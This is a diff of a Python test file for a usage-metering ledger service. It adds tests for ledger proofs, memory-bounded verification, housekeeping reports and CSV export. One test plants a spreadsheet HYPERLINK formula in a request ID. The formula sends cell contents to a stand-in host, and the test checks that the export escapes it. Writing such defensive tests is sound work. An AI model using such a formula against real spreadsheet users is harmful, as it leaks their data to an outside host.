@@ -3,8 +3,11 @@
 from __future__ import annotations
 
 import asyncio
+import csv
 import io
 import json
+import tracemalloc
+from dataclasses import replace
 from datetime import date, timedelta
 from pathlib import Path
 
@@ -15,8 +18,9 @@ from sqlalchemy.ext.asyncio import AsyncEngine
 from service.db import ids, work
 from service.errors import Misuse
 from service.metering import books, housekeeping
+from service.metering.check import Checked
 from service.metering.models import MeterRow, PackRow
-from service.metering.verify import Finding
+from service.metering.verify import Finding, LineFact, MeterFact, Verifier
 from service.orders import refunds
 from service.orders import service as orders
 from service.settings import Ledger
@@ -100,22 +104,56 @@ async def test_drawing_on_a_later_pack_first_is_found(house: House) -> None:
     assert [(finding.kind, first in finding.what) for finding in await prove(house)] == [("order", True)]
 
 
+async def test_lines_of_no_meter_are_found_on_whatever_day(house: House) -> None:
+    await house.grant(50)
+    for age in (400, 3, 3, 0):
+        call = house.call(1, call_id=old_id(START.date() - timedelta(days=age)))
+        await house.ledger().settle(call)
+    async with house.engine.begin() as connection:
+        await connection.execute(text("UPDATE usage_record SET capability = 'stray' WHERE seq <> 2"))
+    assert any(finding.what == "3 lines belong to no meter" for finding in await prove(house))
+
+
+async def test_a_proof_may_be_of_one_capability_and_end_early(house: House) -> None:
+    await busy_life(house)
+    async with house.engine.begin() as connection:
+        await connection.execute(text("UPDATE usage_record SET line = line + 5 WHERE capability = 'general'"))
+    async with work.snapshot(house.engine) as session:
+        assert await books.prove(session, house.account_id, "plate") == []
+        assert len(await books.prove(session, house.account_id, "general", most=3)) == 3
+        assert len(await books.prove(session, most=3)) == 3
+
+
+async def test_a_proof_tells_how_far_it_is(house: House, monkeypatch: pytest.MonkeyPatch) -> None:
+    await busy_life(house)
+    monkeypatch.setattr(books, "TOLD", 4)
+    told: list[int] = []
+    async with work.snapshot(house.engine) as session:
+        assert await books.prove(session, tell=told.append) == []
+    assert told == list(range(4, await house.count() + 1, 4)) != []
+
+
+def test_lines_of_the_database_are_verified_without_holding_them() -> None:
+    meter, count = MeterFact("a", "licence", 40_000, 0), 40_000
+    held = []
+    for unique in (True, False):
+        verifier = Verifier([], [meter], unique=unique)
+        tracemalloc.start()
+        for seq in range(1, count + 1):
+            line = LineFact(f"{seq:032x}", 0, seq, START, "a", "licence", "app", None, None, 0)
+            assert list(verifier.line(line)) == []
+        held.append(tracemalloc.get_traced_memory()[0])
+        tracemalloc.stop()
+        assert list(verifier.finish()) == []
+    assert held[0] < 20_000 < 1_000_000 < held[1]  # bytes
+
+
 async def test_a_meter_that_forgot_is_found(house: House) -> None:
     await house.grant(5)
     await house.ledger().settle(house.call())
     async with house.engine.begin() as connection:
         await connection.execute(update(MeterRow).values(seq=5))
     assert [finding.kind for finding in await prove(house)] == ["sequence"]
-
-
-async def test_drift_is_what_packs_and_lines_disagree_about(house: House) -> None:
-    await busy_life(house)
-    async with work.reading(house.engine) as session:
-        assert await books.drift(session) == 0
-    async with house.engine.begin() as connection:
-        await connection.execute(text("DELETE FROM usage_record WHERE units = 3"))
-    async with work.reading(house.engine) as session:
-        assert await books.drift(session) == 3
 
 
 async def test_an_export_proves_itself(house: House, tmp_path: Path) -> None:
@@ -149,6 +187,18 @@ async def test_an_export_as_csv(house: House) -> None:
         count = await books.export_csv(session, out, house.account_id)
     rows = out.getvalue().splitlines()
     assert rows[0].startswith("call_id,line,seq,settled_at") and len(rows) == count + 1
+
+
+async def test_a_clients_request_id_is_no_formula_in_an_export(house: House) -> None:
+    await house.grant(5)
+    sent = '=HYPERLINK("http://192.0.2.1/?"&A1,"open")'
+    await house.ledger().settle(replace(house.call(1), request_id=sent))
+    out = io.StringIO(newline="")
+    async with work.snapshot(house.engine) as session:
+        await books.export_csv(session, out, house.account_id)
+    head, line = csv.reader(io.StringIO(out.getvalue(), newline=""))
+    row = dict(zip(head, line, strict=True))
+    assert (row["request_id"], row["settled_at"]) == ("'" + sent, START.replace(second=1).isoformat())
 
 
 @pytest.mark.parametrize("content", ["", "{}", "not json", '{"kind": "ledger"}\n{"kind": "pack"}'])
@@ -186,11 +236,11 @@ async def test_a_round_of_housekeeping(house: House) -> None:
     ledger = house.ledger()
     await ledger.settle(house.call(1, call_id=old_id(today - timedelta(days=40))))
     await ledger.settle(house.call(2, call_id=old_id(today + timedelta(days=1))))
-    reported: list[int] = []
+    reported: list[Checked] = []
     keeper = housekeeping.Housekeeper(house.engine, Ledger(retention_days=30), reported.append, clock=house.clock)
-    assert await keeper.round() == 0
-    assert await keeper.round() == 0  # again: nothing to do
-    assert reported == [0, 0]
+    assert (await keeper.round()).drift == 0
+    assert (await keeper.round()).drift == 0  # again: nothing to do
+    assert [(each.drift, each.backlog) for each in reported] == [(0, 0), (0, 0)]
     assert (await house.count(), await prove(house)) == (1, [])
     if house.engine.dialect.name == "postgresql":
         query = f"SELECT count(*) FROM {housekeeping.partition(today + timedelta(days=1))}"
@@ -200,21 +250,21 @@ async def test_a_round_of_housekeeping(house: House) -> None:
 
 
 async def test_housekeeping_does_not_wait_for_a_long_read(house: House) -> None:
-    keeper = housekeeping.Housekeeper(house.engine, Ledger(), lambda drift: None, clock=house.clock)
+    keeper = housekeeping.Housekeeper(house.engine, Ledger(), lambda found: None, clock=house.clock)
     await house.grant(5)
     house.clock.pass_(days=3000)  # days that have no partition yet
     async with work.snapshot(house.engine) as session:
         await books.prove(session)  # the snapshot goes on, and with it its locks
         async with asyncio.timeout(10):
-            assert await keeper.round() == 0
+            assert (await keeper.round()).drift == 0
             await house.ledger().settle(house.call(0))
 
 
 async def test_the_housekeeper_runs_until_it_is_closed(house: House) -> None:
-    reported: list[int] = []
+    reported: list[Checked] = []
     keeper = housekeeping.Housekeeper(house.engine, Ledger(housekeeping_minutes=1e-4), reported.append)
     await keeper.start()
     while len(reported) < 2:
         await asyncio.sleep(0.01)
     await keeper.close()
-    assert set(reported) == {0}
+    assert {each.drift for each in reported} == {0}
